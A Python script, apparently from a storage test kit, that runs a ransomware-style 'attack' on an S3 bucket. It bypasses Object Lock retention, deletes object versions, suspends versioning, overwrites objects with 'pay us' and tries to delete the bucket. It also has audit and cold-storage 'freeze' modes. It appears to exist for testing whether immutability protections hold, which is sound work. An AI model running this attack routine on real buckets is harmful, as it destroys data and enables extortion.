"""What someone with the credentials can do to a bucket, with Amazon's own client: client.py URL BUCKET attack|audit|freeze"""

import json
import sys
from datetime import datetime, timedelta, timezone

import boto3
from botocore.exceptions import ClientError

url, bucket, verb = sys.argv[1:]
s3 = boto3.client(
    "s3",
    endpoint_url=url,
    region_name="us-east-1",
    aws_access_key_id="testkit-access",
    aws_secret_access_key="testkit-secret",
)


def versions(kinds=("Versions", "DeleteMarkers")):
    pages = s3.get_paginator("list_object_versions").paginate(Bucket=bucket)
    return [found for page in pages for kind in kinds for found in page.get(kind, [])]


def works(call, **arguments):
    try:
        call(Bucket=bucket, **arguments)
        return True
    except ClientError:
        return False


def attack():
    done = {"shortened": 0, "deleted": [], "suspended": False, "emptied": False}
    soon = datetime.now(timezone.utc) + timedelta(seconds=1)
    found = versions(("Versions",))
    for version in found:
        one = {"Key": version["Key"], "VersionId": version["VersionId"]}
        held = s3.head_object(Bucket=bucket, **one).get("ObjectLockMode")
        for mode in ("COMPLIANCE", "GOVERNANCE"):
            retention = {"Mode": mode, "RetainUntilDate": soon}
            if held:
                done["shortened"] += works(
                    s3.put_object_retention, Retention=retention, BypassGovernanceRetention=True, **one
                )
        if works(s3.delete_object, BypassGovernanceRetention=True, **one):
            done["deleted"].append(version["Key"])
    suspended = {"Status": "Suspended"}
    done["suspended"] = works(s3.put_bucket_versioning, VersioningConfiguration=suspended)
    for place, key in enumerate(sorted({version["Key"] for version in found})):
        if place % 3 != 0:
            s3.put_object(Bucket=bucket, Key=key, Body=b"pay us")
        if place % 3 != 1:
            s3.delete_object(Bucket=bucket, Key=key)
    done["emptied"] = works(s3.delete_bucket)
    return done


def audit():
    held = {}
    for version in versions(("Versions",)):
        seen = s3.head_object(Bucket=bucket, Key=version["Key"], VersionId=version["VersionId"])
        until = seen.get("ObjectLockRetainUntilDate")
        held[version["Key"]] = [seen.get("ObjectLockMode"), until and until.isoformat()]
    return held


def freeze():
    keys = {version["Key"] for version in versions(("Versions",)) if "/data/" in version["Key"]}
    for key in keys:
        s3.copy_object(Bucket=bucket, Key=key, CopySource={"Bucket": bucket, "Key": key}, StorageClass="GLACIER")
    return len(keys)


print(json.dumps({"attack": attack, "audit": audit, "freeze": freeze}[verb]()))
